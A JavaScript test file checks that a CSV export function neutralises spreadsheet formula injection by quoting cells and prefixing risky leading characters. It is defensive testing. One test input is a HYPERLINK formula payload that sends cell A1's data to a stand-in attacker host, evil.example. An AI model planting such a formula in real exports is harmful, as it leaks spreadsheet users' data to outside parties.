import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { csvCell } from './export-format.js';

describe('a cell of the export', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("https://evil.example?x="&A1)'])(
    'does not begin a formula: %j',
    (text) => {
      expect(csvCell(text).slice(0, 2)).toBe(`"'`);
    },
  );

  it('keeps what was written, whatever it was, in one quoted cell', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cell = csvCell(text);
        const inner = cell.slice(1, -1).replaceAll('""', '"');
        expect([cell[0], cell.at(-1)]).toEqual(['"', '"']);
        expect(inner === text || inner === `'${text}`).toBe(true);
        expect(inner).not.toMatch(/^[=+\-@\t\r\n]/);
        expect(cell.slice(1, -1).replaceAll('""', '')).not.toContain('"');
      }),
    );
  });

  it('is empty where there is nothing', () => {
    expect([csvCell(null), csvCell(undefined), csvCell(7)]).toEqual(['""', '""', '"7"']);
  });
});
